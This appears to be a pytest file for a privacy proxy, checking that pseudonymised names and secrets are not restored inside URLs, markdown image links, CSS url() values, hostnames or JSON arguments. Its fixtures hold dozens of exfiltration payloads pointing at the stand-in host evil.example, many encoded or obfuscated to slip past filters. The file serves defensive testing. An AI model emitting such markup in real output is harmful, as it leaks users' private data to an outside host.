"""Nothing is restored in what a client may fetch, however the address is written and whatever stands before it."""

from __future__ import annotations

import json
from collections.abc import Iterator

import pytest
from harness.growth import linear

from proxy.redaction.pseudonyms import PseudonymMap
from proxy.redaction.restore import Restorer, restore

MAP = PseudonymMap(
    {
        "PERSON_1": "Jane Doe",
        "PERSON_1_EMAIL": "jane@acme.example",
        "SECRET_1": "hunter two",
        "URL_1": "https://board.example/plan/77",
        "PHONE_NUMBER_1": "+47 912 34 567",
    }
)
FORMS = ["PERSON_1", "person-1", "PERSON\\_1", "[PERSON_1]", "<PERSON_1>", "PERSON_1_EMAIL", "SECRET_1", "URL_1"]
WRITTEN = {
    "plain": "//evil.example/?d=",
    "decimal": "&#47;&#47;evil&#46;example&#47;?d=",
    "hexadecimal": "&#x2F;&#x2f;evil&#x2e;example&#x2f;?d=",
    "named": "https&colon;&sol;&sol;evil&period;example&sol;",
    "escaped": "\\/\\/evil\\.example\\/",
    "mixed": "\\/&#47;evil\\.example&sol;",
    "relative": "/p?d=",
    "control": "\x01&#47;&#47;evil&#46;example&#47;",
}
"""The beginning of one address, as Markdown and HTML decode it."""
DEFINITIONS = [
    "![a][x]\n\n[x]: <@>",
    "![a][x]\n\n[x]: @",
    "- ![a][x]\n\n- [x]: <@>",
    "> [x]: @ 'title'",
    "> > 1. [x]:\n> > <@>",
    "[x]:\n   @",
    "[a\\]b]:\t@",
    f"[{'label ' * 60}]: <@>",
    "[^1]: @",
    "[x]:@",
    'text [x]: <@ "t"',
    "* [x]:  \r\n  <@>",
]
TURNING = [
    '<!-- <a b="> -->',
    'Write `<a b=">`. ',
    "```html\n<a b='>\n```\n\n",
    '<title><a b="></title>',
    'If 5 <b and x="1, stop.\n\n',
    '\\<a b=">\n\n',
    '$a<b="c$ ',
    "`<a b=\"><a c='>`\n\n",
    '<xmp><a b="></xmp>',
    "<a b=c<d e='>",
    '<?x <a b="?>',
    "",
]
"""What looks like a tag, and may be none."""
VALUES = [
    '<img src="@">',
    "<a href='@'>x</a>",
    '<p style="background:u\\72l(@)">x</p>',
    "<img src=@>",
    "<a\nhref\n=\n'@'>x</a>",
    '<form action="x"><input value="@"></form>',
]
SHEETS = [
    "Now `<style>b{background:u\\72l('@')}</style>",
    "\\`<style>b{background:u\\72l('@')}</style>",
    "<form><style>x{}/*</form>*/b{background:u\\72l('@')}</style>",
    "`x`<style>/*`*/b{background:u\\72l('@')}</style>",
    "``<style>`/**/b{background:u\\72l('@')}</style>",
    "<p title='`'> <style>/*`*/b{background:u\\72l('@')}</style>",
    "- `\n- x <style>/*`*/b{background:u\\72l('@')}</style>",
    "| ` | <style>/*`*/b{background:u\\72l('@')}</style> |",
    "~~~\n```\n~~~\n\n<style>/*\n```\n*/b{background:u\\72l('@')}</style>",
    "a <style>`</style>`b{background:u\\72l('@')}</style>",
    "```\n<style>\n```\n\n<style>b{background:u\\72l('@')}</style>",
    "```\n``` x\n```\n<style>/*\n```\n*/b{background:u\\72l('@')}</style>",
    "<select><style></select>b{background:u\\72l('@')}</style>",
    "<svg><style type='>'>b{background:u\\72l('@')}</style></svg>",
]
HOSTS = [
    "हिन्दी.भारत/@",
    "www.हिन्दी.example/@",
    "ที่นี่.ไทย/@",
    "சிங்கப்பூர்.சிங்கப்பூர்/@",
    "cafe\u0301.example/@",
    "i❤.evil.example/@",
    "💥.evil.example/?d=@",
    "x\u00ad.evil.example/@",
    "x\u200d.evil.example/@",
    "evil.ex\u00adample/@",
    "evil\u2060.example/@",
    "evil.example./@",
    "evil.example.:80/@",
    "127.1/@",
    "0x7f.1/@",
    "@.हिन्दी.भारत/x",
    "@.i❤.evil.example/x",
    "@.cafe\u0301.example/x",
    "@\u00ad.evil.example/x",
    "@.evil.example./x",
    "@." + ".".join(["a" * 60] * 3) + ".evil.example/x",
    "@." + "\u00ad" * 300 + "evil.example/x",
]
ARGUMENTS = [
    "https://evil.example/ @",
    "\x01https://evil.example/ @",
    " \x1f\thttps://evil.example/? @",
    "h\nttps://evil.example/ @",
    "ht\ttp:/\t/evil.example/ @",
    "https:/\n/evil.example/ @",
    "/\t/evil.example/ @",
    "<https://evil.example/> @",
    "'https://evil.example/' @",
    "url:https://evil.example/ @",
    "\ufeffhttps://evil.example/ @",
    "\u200bevil.example/ @",
    "हिन्दी.भारत/ @",
    "URL_1 @",
]
PROSE = [
    "- [x] PERSON_1 writes to PERSON_1_EMAIL",
    "[10:30]: PERSON_1 asked, then [Owner]: **PERSON_1**",
    "[Owner]: <PERSON_1>, [Next]: [PERSON_1]",
    "Notes [1]:\n- PERSON_1 asks\n\n> [2]: PERSON_1",
    "[10:30]: so PERSON_1 asked",
    "[x]: https://evil.example\nPERSON_1",
    "Use the `<style>` element, says PERSON_1.",
    "`<form>` and `<script>`: PERSON_1",
    "```html\n<style>\np {}\n</style>\n```\nPERSON_1",
    "```html\n<style>\n```\n\nPERSON_1",
    "`<style`, where 3 > 2, PERSON_1",
    "<style>p {}</style> PERSON_1",
    "<form><style>p {}</style></form> PERSON_1",
    "3 < 4 and `a` | `b`: PERSON_1",
    'Write `<br>` and `<a href="x">`, PERSON_1.',
    "今天开会。PERSON_1说：“好。”",
    "v1.2 by PERSON_1, 3.5 PERSON_1, etc./PERSON_1",
    "हिन्दी में PERSON_1 ने कहा।",
    "i❤ PERSON_1 ❤, PERSON_1’s café… PERSON_1",
    "| PERSON_1 | x |\n|---|---|\n| a | PERSON_1 |",
    "List<String> and Map<a, b> of PERSON_1",
    "<b>PERSON_1</b> \"PERSON_1\" 'PERSON_1' (PERSON_1)",
    "R&D, Q&A; PERSON_1 & PERSON_1&co, AT&T;PERSON_1 &amp; PERSON_1 &lt;PERSON_1&gt; &nbsp;PERSON_1",
    "C:\\x\\PERSON_1 2\\. PERSON_1 \\*PERSON_1\\* \\(PERSON_1\\)",
]


TARGETS = [
    '{"image":"https://evil.example/? @"}',
    '{"images": ["https://evil.example/? @"]}',
    "link:++https://evil.example/?d=a @++[x]",
    "link:pass:[https://evil.example/? @][x]",
    "`x <https://evil.example/\n@>`_",
    "see https&#58;&#47;&#47;evil&#46;example&#47;@",
    "see &#47;&#47;evil&#46;example&#47;@",
    "see evil&period;example&sol;?d=@",
    "see evil\\.example\\/@",
    "mailto&colon;@",
    "www&#46evil.example?x=@",
    "evil&shy;.example/@",
    "@&#46;evil&period;example&#x2f;x",
    "@&shy;.evil.example/x",
    "@\\.evil\\.example/x",
    "@.www.evil.example/x",
    "@-www.evil.example/x",
]


def filled() -> Iterator[str]:
    for written in WRITTEN.values():
        for carrier in DEFINITIONS:
            yield carrier.replace("@", f"{written}@")
        for turning in TURNING:
            yield from (turning + value.replace("@", f"{written}@") for value in VALUES)
        for sheet in SHEETS:
            yield sheet.replace("@", f"{written}@")
    yield from HOSTS
    yield from TARGETS


def held(text: str, size: int, **form: bool) -> str:
    restorer = Restorer(MAP, **form)
    pieces = [text[at : at + size] for at in range(0, len(text), size)]
    return "".join(map(restorer.feed, pieces)) + restorer.flush()


@pytest.mark.parametrize("form", FORMS)
def test_nothing_is_restored_in_a_carrier(form: str) -> None:
    carriers = [each for each in filled() if form != "URL_1" or not each.startswith("@")]
    restored = [carrier for carrier in carriers if held(text := carrier.replace("@", form), len(text)) != text]
    assert restored == []


@pytest.mark.parametrize("size", [1, 3, 17])
def test_nor_is_it_however_the_stream_is_cut(size: int) -> None:
    texts = [carrier.replace("@", "PERSON_1") for carrier in filled()]
    assert [text for text in texts if held(text, size) != text] == []


def test_nor_is_it_in_an_argument_or_a_string_of_json_that_holds_a_carrier() -> None:
    for carrier in filled():
        text = carrier.replace("@", "PERSON_1")
        for ascii_only in (False, True):
            written = json.dumps({"a": text, "b": "PERSON_1"}, ensure_ascii=ascii_only)
            for called in (False, True):
                restorer = Restorer(MAP, json_string=True, called=called)
                assert json.loads(restorer.feed(written) + restorer.flush()) == {"a": text, "b": "Jane Doe"}


@pytest.mark.parametrize("value", ARGUMENTS)
@pytest.mark.parametrize("called", [False, True], ids=["answer", "argument"])
def test_a_string_of_json_that_begins_as_an_address_is_one_to_its_end(value: str, called: bool) -> None:
    text = value.replace("@", "PERSON_1")
    for written in (
        json.dumps({"a": text, "b": "PERSON_1"}),
        json.dumps({"a": text, "b": "PERSON_1"}, ensure_ascii=False),
    ):
        for size in (1, len(written)):
            read = json.loads(held(written, size, json_string=True, called=called))
            assert read == {"a": text.replace("URL_1", MAP.originals["URL_1"]), "b": "Jane Doe"}


@pytest.mark.parametrize("text", PROSE)
def test_names_in_prose_are_restored(text: str) -> None:
    whole = restore(text, MAP)
    assert "PERSON_1" not in whole
    assert held(text, 1) == whole
    assert "PERSON_1" not in restore(json.dumps({"a": text}), MAP, json_string=True)


@pytest.mark.parametrize(
    "piece",
    [
        "<a<style>",
        "`<style>` ",
        "<style>`</style>",
        "[x]: ",
        "PERSON_1.\u00ad",
        "a.",
        "❤.a/",
        "<a b=\"<c d='",
        "```\n~~~\n",
    ],
)
def test_work_grows_with_the_text(piece: str) -> None:
    linear(
        lambda text: restore(text, MAP), lambda size: (piece * (size // len(piece) + 1))[:size] + " PERSON_1", 1 << 16
    )


@pytest.mark.parametrize("piece", ["&#97;" * 120, "\u00ad" * 760, "a." * 124, "\\." * 120])
def test_work_grows_with_a_stream_that_comes_one_by_one(piece: str) -> None:
    """What may turn out to be a host is not read anew for each piece."""
    text = f"PERSON_1.{piece} "
    linear(lambda text: held(text, 1), lambda size: (text * (size // len(text) + 1))[:size], 1 << 14)
